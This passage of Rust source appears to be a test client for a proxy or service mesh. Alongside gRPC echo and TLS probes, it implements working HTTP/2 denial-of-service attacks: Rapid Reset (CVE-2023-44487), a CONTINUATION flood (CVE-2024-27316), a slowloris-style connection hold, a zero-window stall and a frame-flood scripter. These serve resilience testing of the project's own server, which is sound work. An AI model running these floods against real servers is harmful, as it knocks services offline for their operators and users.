    let open = |i: usize| -> anyhow::Result<Option<std::io::BufReader<std::net::TcpStream>>> {
        let stream = match std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5)) {
            Ok(s) => s,
            // The reset can beat the connect's own completion.
            Err(e) if half_head && e.kind() == std::io::ErrorKind::ConnectionReset => {
                return Ok(None);
            }
            Err(e) => {
                return Err(e).with_context(|| format!("connection {i} of {count} to {addr}"));
            }
        };
        stream.set_read_timeout(Some(Duration::from_secs(10)))?;
        let mut reader = std::io::BufReader::new(stream);
        if half_head {
            let head = format!("GET / HTTP/1.1\r\nHost: {addr}\r\nX-Slow: ");
            return Ok(reader
                .get_mut()
                .write_all(head.as_bytes())
                .ok()
                .map(|()| reader));
        }
        reader.get_mut().write_all(request.as_bytes())?;
        if !read_response(&mut reader)? {
            anyhow::bail!("connection {i}: the GET was not answered 2xx");
        }
        Ok(Some(reader))
    };
    let parallel = parallel.clamp(1, count.max(1));
    let held: Vec<_> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..parallel)
            .map(|t| {
                let open = &open;
                scope.spawn(move || {
                    (t..count)
                        .step_by(parallel)
                        .map(open)
                        .collect::<anyhow::Result<Vec<_>>>()
                })
            })
            .collect();
        threads
            .into_iter()
            .map(|h| {
                h.join()
                    .map_err(|_| anyhow::anyhow!("a connecting thread panicked"))?
            })
            .collect::<anyhow::Result<Vec<Vec<_>>>>()
    })?
    .into_iter()
    .flatten()
    .flatten()
    .collect();
    println!("ready {}", held.len());
    std::io::stdout().flush()?;
    let mut sink = Vec::new();
    let _ = std::io::stdin().read_to_end(&mut sink);
    if half_head {
        let mut timed_out = 0;
        for mut r in held {
            r.get_mut()
                .set_read_timeout(Some(Duration::from_millis(200)))?;
            let mut answer = String::new();
            let _ = r.read_to_string(&mut answer);
            if answer.starts_with("HTTP/1.1 408 ") {
                timed_out += 1;
            }
        }
        println!("{}", serde_json::json!({ "timed_out": timed_out }));
    }
    Ok(())
}

/// gRPC over hyper's HTTP/2: length-prefixed messages, status in the trailers.
mod grpc {
    use std::{
        convert::Infallible,
        pin::Pin,
        task::{Context, Poll},
    };

    use anyhow::{Context as _, bail};
    use bytes::{Buf, Bytes, BytesMut};
    use http_body_util::BodyExt;
    use hyper::{HeaderMap, Request, Response, body::Frame};
    use tokio::sync::mpsc;

    use super::Body;

    /// A body fed from a channel, so each frame goes out when it is made.
    pub struct Chan(pub mpsc::Receiver<Frame<Bytes>>);

    impl hyper::body::Body for Chan {
        type Data = Bytes;
        type Error = Infallible;
        fn poll_frame(
            mut self: Pin<&mut Self>,
            cx: &mut Context<'_>,
        ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
            self.0.poll_recv(cx).map(|f| f.map(Ok))
        }
    }

    /// One message with its 5-byte prefix (uncompressed).
    pub fn frame(msg: &[u8]) -> Bytes {
        let mut b = BytesMut::with_capacity(5 + msg.len());
        b.extend_from_slice(&[0]);
        b.extend_from_slice(&(msg.len() as u32).to_be_bytes());
        b.extend_from_slice(msg);
        b.freeze()
    }

    /// Takes complete messages off the front of `buf`.
    pub fn messages(buf: &mut BytesMut) -> Vec<Bytes> {
        let mut out = Vec::new();
        while buf.len() >= 5 {
            let len = u32::from_be_bytes([buf[1], buf[2], buf[3], buf[4]]) as usize;
            if buf.len() < 5 + len {
                break;
            }
            buf.advance(5);
            out.push(buf.split_to(len).freeze());
        }
        out
    }

    fn ok_trailers() -> HeaderMap {
        let mut t = HeaderMap::new();
        t.insert("grpc-status", hyper::header::HeaderValue::from_static("0"));
        t
    }

    fn grpc_response(body: Body) -> Response<Body> {
        let mut r = Response::new(body);
        r.headers_mut().insert(
            hyper::header::CONTENT_TYPE,
            hyper::header::HeaderValue::from_static("application/grpc"),
        );
        r
    }

    pub async fn unary(req: Request<hyper::body::Incoming>) -> Response<Body> {
        let mut buf = match req.into_body().collect().await {
            Ok(c) => BytesMut::from(c.to_bytes().as_ref()),
            Err(e) => return super::bad(&format!("body: {e}")),
        };
        let (tx, rx) = mpsc::channel(4);
        let msgs = messages(&mut buf);
        tokio::spawn(async move {
            for m in msgs {
                let _ = tx.send(Frame::data(frame(&m))).await;
            }
            let _ = tx.send(Frame::trailers(ok_trailers())).await;
        });
        grpc_response(Chan(rx).boxed())
    }

    /// Echoes each message as soon as it has arrived whole.
    pub fn stream(req: Request<hyper::body::Incoming>) -> Response<Body> {
        let (tx, rx) = mpsc::channel(16);
        let mut body = req.into_body();
        tokio::spawn(async move {
            let mut buf = BytesMut::new();
            while let Some(Ok(f)) = body.frame().await {
                if let Some(d) = f.data_ref() {
                    buf.extend_from_slice(d);
                    for m in messages(&mut buf) {
                        if tx.send(Frame::data(frame(&m))).await.is_err() {
                            return;
                        }
                    }
                }
            }
            let _ = tx.send(Frame::trailers(ok_trailers())).await;
        });
        grpc_response(Chan(rx).boxed())
    }

    fn request(
        addr: std::net::SocketAddr,
        method: &str,
        body: Body,
    ) -> anyhow::Result<Request<Body>> {
        Ok(
            Request::post(format!("http://{addr}/mesh.test.Echo/{method}"))
                .header("content-type", "application/grpc")
                .header("te", "trailers")
                .body(body)?,
        )
    }

    fn check_status(trailers: Option<&HeaderMap>) -> anyhow::Result<()> {
        let status = trailers
            .and_then(|t| t.get("grpc-status"))
            .and_then(|v| v.to_str().ok());
        if status != Some("0") {
            bail!("grpc-status {status:?} in the trailers, expected 0");
        }
        Ok(())
    }

    /// The client: a unary call, then a stream where each message waits for the previous echo.
    pub async fn call(addr: std::net::SocketAddr, n: usize) -> anyhow::Result<serde_json::Value> {
        let tcp = tokio::net::TcpStream::connect(addr).await?;
        let (mut send, conn) = hyper::client::conn::http2::handshake(
            hyper_util::rt::TokioExecutor::new(),
            hyper_util::rt::TokioIo::new(tcp),
        )
        .await
        .context("HTTP/2 handshake")?;
        tokio::spawn(conn);

        let body = http_body_util::Full::new(frame(b"unary hello")).boxed();
        let resp = send.send_request(request(addr, "Unary", body)?).await?;
        if resp.status() != 200 {
            bail!("unary call answered {}", resp.status());
        }
        let collected = resp.into_body().collect().await?;
        check_status(collected.trailers())?;
        let mut data = BytesMut::from(collected.to_bytes().as_ref());
        let echoed = messages(&mut data);
        if echoed != [Bytes::from_static(b"unary hello")] {
            bail!("unary echo was {echoed:?}");
        }

        let (tx, rx) = mpsc::channel(1);
        tx.send(Frame::data(frame(b"message 0"))).await?;
        let mut tx = Some(tx);
        let resp = send
            .send_request(request(addr, "Stream", Chan(rx).boxed())?)
            .await?;
        if resp.status() != 200 {
            bail!("stream answered {}", resp.status());
        }
        let mut body = resp.into_body();
        let mut buf = BytesMut::new();
        let mut got = 0;
        let mut trailers = None;
        while let Some(f) = body.frame().await {
            let f = f?;
            if let Some(d) = f.data_ref() {
                buf.extend_from_slice(d);
                for m in messages(&mut buf) {
                    let want = format!("message {got}");
                    if m != want.as_bytes() {
                        bail!("echo {got} was {m:?}");
                    }
                    got += 1;
                    // The next message goes only after this echo came back: both directions
                    // stream at once.
                    if got < n {
                        if let Some(tx) = &tx {
                            tx.send(Frame::data(frame(format!("message {got}").as_bytes())))
                                .await?;
                        }
                    } else {
                        // Ends the request stream; the server then sends its trailers.
                        tx = None;
                    }
                }
            } else if let Ok(t) = f.into_trailers() {
                trailers = Some(t);
            }
        }
        drop(tx);
        check_status(trailers.as_ref())?;
        if got != n {
            bail!("{got} of {n} stream messages came back");
        }
        Ok(serde_json::json!({"unary": "ok", "stream_messages": got}))
    }
}

/// Writes a file's bytes, half-closes, and prints the answer.
fn raw(addr: SocketAddr, input: &std::path::Path) -> anyhow::Result<()> {
    use std::io::{Read, Write};
    let bytes = std::fs::read(input)?;
    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
    s.set_read_timeout(Some(Duration::from_secs(5)))?;
    // The server may answer and close before it has read everything: that is fine.
    let _ = s.write_all(&bytes);
    let _ = s.shutdown(std::net::Shutdown::Write);
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    print!("{}", String::from_utf8_lossy(&out));
    Ok(())
}

/// An HTTP/2 connection for the attacker clients: the preface and SETTINGS are sent, and a
/// thread watches for the server's GOAWAY (its error code) or the connection's end.
struct H2Attack {
    s: std::net::TcpStream,
    goaway: std::thread::JoinHandle<Option<u32>>,
}

impl H2Attack {
    fn open(addr: SocketAddr) -> anyhow::Result<Self> {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
        s.set_nodelay(true)?;
        let mut reader = s.try_clone()?;
        reader.set_read_timeout(Some(Duration::from_secs(10)))?;
        let goaway = std::thread::spawn(move || -> Option<u32> {
            let mut head = [0u8; 9];
            loop {
                reader.read_exact(&mut head).ok()?;
                let len = (usize::from(head[0]) << 16)
                    | (usize::from(head[1]) << 8)
                    | usize::from(head[2]);
                let mut payload = vec![0; len];
                reader.read_exact(&mut payload).ok()?;
                if head[3] == 0x7 && len >= 8 {
                    return Some(u32::from_be_bytes([
                        payload[4], payload[5], payload[6], payload[7],
                    ]));
                }
            }
        });
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        out.extend(h2_frame(0x4, 0, 0, &[]));
        s.write_all(&out)?;
        Ok(Self { s, goaway })
    }

    /// HPACK for GET http://<addr>/: static indexes, then :authority as a literal.
    fn request_headers(addr: SocketAddr) -> Vec<u8> {
        let mut headers = vec![0x82, 0x86, 0x84, 0x01];
        let authority = addr.to_string();
        headers.push(authority.len() as u8);
        headers.extend_from_slice(authority.as_bytes());
        headers
    }

    fn finish(self, sent: u32, what: &str) {
        drop(self.s);
        let goaway = self.goaway.join().ok().flatten();
        println!(
            "{}",
            serde_json::json!({what: sent, "goaway": goaway.is_some(), "error_code": goaway})
        );
    }
}

fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    f.extend_from_slice(&[kind, flags]);
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// A raw HTTP/2 client connection whose reader thread passes on every frame it receives (type,
/// flags, stream, payload) and answers nothing.
struct H2Probe {
    s: std::net::TcpStream,
    frames: std::sync::mpsc::Receiver<(u8, u8, u32, Vec<u8>)>,
}

impl H2Probe {
    fn open(addr: SocketAddr, settings: &[u8]) -> anyhow::Result<Self> {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
        s.set_nodelay(true)?;
        let mut reader = s.try_clone()?;
        let (tx, frames) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut head = [0u8; 9];
            while reader.read_exact(&mut head).is_ok() {
                let len = (usize::from(head[0]) << 16)
                    | (usize::from(head[1]) << 8)
                    | usize::from(head[2]);
                let mut payload = vec![0; len];
                if reader.read_exact(&mut payload).is_err() {
                    break;
                }
                let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
                if tx.send((head[3], head[4], stream, payload)).is_err() {
                    break;
                }
            }
        });
        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        out.extend(h2_frame(0x4, 0, 0, settings));
        s.write_all(&out)?;
        Ok(Self { s, frames })
    }

    /// HPACK for `GET http://<addr><path>`.
    fn get(addr: SocketAddr, path: &str) -> Vec<u8> {
        let mut h = vec![0x82, 0x86, 0x04, path.len() as u8];
        h.extend_from_slice(path.as_bytes());
        let authority = addr.to_string();
        h.extend([0x01, authority.len() as u8]);
        h.extend_from_slice(authority.as_bytes());
        h
    }

    /// Frames received until `quiet` passes without one, or the connection ends.
    fn drain(&self, quiet: Duration) -> Vec<(u8, u8, u32, Vec<u8>)> {
        let mut all = Vec::new();
        while let Ok(f) = self.frames.recv_timeout(quiet) {
            all.push(f);
        }
        all
    }
}

fn goaway_code(frames: &[(u8, u8, u32, Vec<u8>)]) -> Option<u32> {
    frames
        .iter()
        .find(|f| f.0 == 0x7 && f.3.len() >= 8)
        .map(|f| u32::from_be_bytes([f.3[4], f.3[5], f.3[6], f.3[7]]))
}

fn zero_window(
    addr: SocketAddr,
    requests: u32,
    size: u64,
    hold_ms: u64,
    wait_ms: u64,
) -> anyhow::Result<()> {
    use std::io::Write;
    // SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send no DATA on any stream.
    let mut p = H2Probe::open(addr, &[0, 4, 0, 0, 0, 0])?;
    let headers = H2Probe::get(addr, &format!("/bytes/{size}"));
    let mut out = Vec::new();
    for n in 0..requests {
        out.extend(h2_frame(0x1, 0x5, 2 * n + 1, &headers));
    }
    p.s.write_all(&out)?;
    // Waiting for every stream, not for a quiet spell: on a slow machine (the qemu guest) the
    // answers can come with gaps longer than the hold, and stopping at the first gap counted
    // streams that were still on their way as unanswered.
    let start = std::time::Instant::now();
    let deadline = start + Duration::from_millis(wait_ms);
    let mut frames = Vec::new();
    let mut settled = std::collections::HashSet::new();
    while settled.len() < requests as usize && goaway_code(&frames).is_none() {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        let Ok(f) = p.frames.recv_timeout(left) else {
            break;
        };
        if matches!(f.0, 0x1 | 0x3) && f.2 != 0 {
            settled.insert(f.2);
        }
        frames.push(f);
    }
    let settled_ms = start.elapsed().as_millis();
    frames.extend(p.drain(Duration::from_millis(hold_ms)));
    let refused = frames.iter().filter(|f| f.0 == 0x3).count();
    let answered = frames.iter().filter(|f| f.0 == 0x1).count();
    println!(
        "{}",
        serde_json::json!({"sent": requests, "answered": answered, "refused": refused, "goaway": goaway_code(&frames), "settled_ms": settled_ms})
    );
    Ok(())
}

/// One frame of an `h2-script`: `payload` is a list of parts, each `{"hex": ..}`, `{"text": ..}`
/// (either with `"times"`) or `{"get": "/path"}` (HPACK for a GET of that path).
#[derive(serde::Deserialize)]
struct ScriptFrame {
    #[serde(rename = "type")]
    kind: u8,
    #[serde(default)]
    flags: u8,
    #[serde(default)]
    stream: u32,
    #[serde(default)]
    payload: Vec<serde_json::Value>,
    #[serde(default)]
    times: Option<usize>,
    /// Added to the stream id on each repetition.
    #[serde(default)]
    stream_step: u32,
    /// A RST_STREAM with this code after each repetition, on its stream.
    #[serde(default)]
    reset_each: Option<u32>,
}

#[derive(serde::Deserialize)]
struct Script {
    frames: Vec<ScriptFrame>,
    #[serde(default)]
    quiet_ms: Option<u64>,
}

/// The bytes of a list of payload parts (see [`ScriptFrame`]).
fn parts(addr: SocketAddr, parts: &[serde_json::Value]) -> anyhow::Result<Vec<u8>> {
    let mut out = Vec::new();
    for p in parts {
        let times = p["times"].as_u64().unwrap_or(1) as usize;
        let one = if let Some(h) = p["hex"].as_str() {
            hex::decode(h.replace(' ', ""))?
        } else if let Some(t) = p["text"].as_str() {
            t.as_bytes().to_vec()
        } else if let Some(path) = p["get"].as_str() {
            H2Probe::get(addr, path)
        } else {
            anyhow::bail!("a payload part is hex, text or get: {p}");
        };
        out.extend(one.repeat(times));
    }
    Ok(out)
}

fn h2_script(addr: SocketAddr, script: &std::path::Path) -> anyhow::Result<()> {
    use std::io::Write;
    let script: Script = serde_json::from_slice(&std::fs::read(script)?)?;
    let mut bytes = Vec::new();
    for f in &script.frames {
        let payload = parts(addr, &f.payload)?;
        if f.stream_step == 0 && f.reset_each.is_none() {
            bytes
                .extend(h2_frame(f.kind, f.flags, f.stream, &payload).repeat(f.times.unwrap_or(1)));
            continue;
        }
        for i in 0..f.times.unwrap_or(1) {
            let stream = f.stream + f.stream_step * u32::try_from(i)?;
            bytes.extend(h2_frame(f.kind, f.flags, stream, &payload));
            if let Some(code) = f.reset_each {
                bytes.extend(h2_frame(0x3, 0, stream, &code.to_be_bytes()));
            }
        }
    }
    let p = H2Probe::open(addr, &[])?;
    // A writer thread, so the answers keep being read while a flood is written.
    let mut w = p.s.try_clone()?;
    let writer = std::thread::spawn(move || w.write_all(&bytes).is_ok());
    let quiet = Duration::from_millis(script.quiet_ms.unwrap_or(1500));
    let mut frames = Vec::new();
    let closed = loop {
        match p.frames.recv_timeout(quiet) {
            Ok(f) => frames.push(f),
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => break false,
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => break true,
        }
    };
    let _ = p.s.shutdown(std::net::Shutdown::Both);
    let _ = writer.join();
    let rst: Vec<(u32, u32)> = frames
        .iter()
        .filter(|f| f.0 == 0x3 && f.3.len() >= 4)
        .map(|f| (f.2, u32::from_be_bytes([f.3[0], f.3[1], f.3[2], f.3[3]])))
        .collect();
    let mut answered: Vec<u32> = frames.iter().filter(|f| f.0 == 0x1).map(|f| f.2).collect();
    answered.dedup();
    // The :status of each answer (HPACK static-table indexes 8-14, or a literal).
    let statuses: Vec<String> = frames
        .iter()
        .filter(|f| f.0 == 0x1)
        .map(|f| match f.3.first() {
            Some(0x88) => "200".into(),
            Some(0x89) => "204".into(),
            Some(0x8a) => "206".into(),
            Some(0x8b) => "304".into(),
            Some(0x8c) => "400".into(),
            Some(0x8d) => "404".into(),
            Some(0x8e) => "500".into(),
            _ => {
                f.3.get(2..5)
                    .map(|b| String::from_utf8_lossy(b).into_owned())
                    .unwrap_or_default()
            }
        })
        .collect();
    println!(
        "{}",
        serde_json::json!({"goaway": goaway_code(&frames), "rst_stream": rst, "answered": answered, "statuses": statuses, "closed": closed})
    );
    Ok(())
}

async fn tls_probe(addr: SocketAddr, version: &str) -> anyhow::Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let versions: &[&rustls::SupportedProtocolVersion] = match version {
        "1.2" => &[&rustls::version::TLS12],
        "1.3" => &[&rustls::version::TLS13],
        other => anyhow::bail!("unknown TLS version {other:?}: 1.2 or 1.3"),
    };
    let mut config = rustls::ClientConfig::builder_with_provider(provider.clone())
        .with_protocol_versions(versions)?
        .dangerous()
        .with_custom_certificate_verifier(std::sync::Arc::new(mesh_tests::AnyServer(provider)))
        .with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tokio::net::TcpStream::connect(addr).await?;
    let name = rustls::pki_types::ServerName::IpAddress(addr.ip().into());
    let outcome = match tokio::time::timeout(
        Duration::from_secs(5),
        tokio_rustls::TlsConnector::from(std::sync::Arc::new(config)).connect(name, tcp),
    )
    .await
    {
        Err(_) => serde_json::json!({"handshake": "timed out"}),
        Ok(Err(e)) => serde_json::json!({"handshake": "refused", "error": e.to_string()}),
        Ok(Ok(mut tls)) => {
            // TLS 1.3 finishes the client side before the server checks the (missing) client
            // certificate: the refusal comes as the first read.
            let _ = tls.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await;
            let mut buf = vec![0u8; 4096];
            match tokio::time::timeout(Duration::from_secs(5), tls.read(&mut buf)).await {
                Ok(Ok(0)) => serde_json::json!({"handshake": "closed"}),
                Ok(Ok(n)) => serde_json::json!({"handshake": "served", "bytes": n}),
                Ok(Err(e)) => serde_json::json!({"handshake": "refused", "error": e.to_string()}),
                Err(_) => serde_json::json!({"handshake": "no answer"}),
            }
        }
    };
    println!("{outcome}");
    Ok(())
}

/// Opens and cancels HTTP/2 streams as fast as it can (CVE-2023-44487).
fn rapid_reset(addr: SocketAddr, streams: u32) -> anyhow::Result<()> {
    use std::io::Write;
    let mut a = H2Attack::open(addr)?;
    let headers = H2Attack::request_headers(addr);
    let mut sent = 0;
    for batch in 0..streams.div_ceil(100) {
        let mut out = Vec::new();
        for i in 0..100 {
            let n = batch * 100 + i;
            if n >= streams {
                break;
            }
            let id = 2 * n + 1;
            out.extend(h2_frame(0x1, 0x5, id, &headers));
            out.extend(h2_frame(0x3, 0, id, &8u32.to_be_bytes()));
        }
        if a.s.write_all(&out).is_err() {
            break;
        }
        sent += 100.min(streams - batch * 100);
    }
    a.finish(sent, "sent_streams");
    Ok(())
}

/// Sends a header block that never ends (CVE-2024-27316 and kin).
fn continuation_flood(addr: SocketAddr, frames: u32) -> anyhow::Result<()> {
    use std::io::Write;
    let mut a = H2Attack::open(addr)?;
    // END_STREAM without END_HEADERS, so CONTINUATION frames must follow.
    a.s.write_all(&h2_frame(0x1, 0x1, 1, &H2Attack::request_headers(addr)))?;
    // Each block fragment repeats an indexed header (`accept-encoding: gzip, deflate`): tiny on
    // the wire, about 50 bytes each in the decoded list.
    let fragment = vec![0x90u8; 16 * 1024];
    let mut sent = 0;
    for _ in 0..frames {
        if a.s.write_all(&h2_frame(0x9, 0, 1, &fragment)).is_err() {
            break;
        }
        sent += 1;
    }
    a.finish(sent, "sent_frames");
    Ok(())
}

fn main() -> anyhow::Result<()> {
    match Cli::parse().cmd {
        Cmd::Serve {
            port,
            name,
            delay_ms,
        } => tokio::runtime::Runtime::new()?.block_on(serve(port, name, delay_ms)),
        Cmd::Load {
            addr,
            path,
            rate,
            seconds,
            connections,
            reconnect,
            split_ms,
        } => load(addr, &path, rate, seconds, connections, reconnect, split_ms),
        Cmd::Grpc { addr, messages } => {
            let out = tokio::runtime::Runtime::new()?.block_on(grpc::call(addr, messages))?;
            println!("{out}");
            Ok(())
        }
        Cmd::Raw { addr, input } => raw(addr, &input),
        Cmd::StreamServe { port } => stream_serve(port),
        Cmd::Stream {
            addr,
            send,
            reply,
            seconds,
        } => {
            stream(addr, send, reply, seconds.map(Duration::from_secs)).map(|out| println!("{out}"))
        }
        Cmd::Streams {
            addr,
            count,
            send,
            reply,
            seconds,
        } => streams(addr, count, send, reply, Duration::from_secs(seconds)),
        Cmd::Hold {
            addr,
            count,
            parallel,
            half_head,
        } => hold(addr, count, parallel, half_head),
        Cmd::RapidReset { addr, streams } => rapid_reset(addr, streams),
        Cmd::Upgrade {
            addr,
            messages,
            protocol,
        } => upgrade(addr, messages, &protocol),
        Cmd::H2cUpgrade { addr, path } => {
            tokio::runtime::Runtime::new()?.block_on(h2c_upgrade(addr, &path))
        }
        Cmd::ContinuationFlood { addr, frames } => continuation_flood(addr, frames),
        Cmd::ZeroWindow {
            addr,
            requests,
            size,
            hold_ms,
            wait_ms,
        } => zero_window(addr, requests, size, hold_ms, wait_ms),
        Cmd::H2Script { addr, script } => h2_script(addr, &script),
        Cmd::TlsProbe { addr, version } => tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()?
            .block_on(tls_probe(addr, &version)),
    }
}
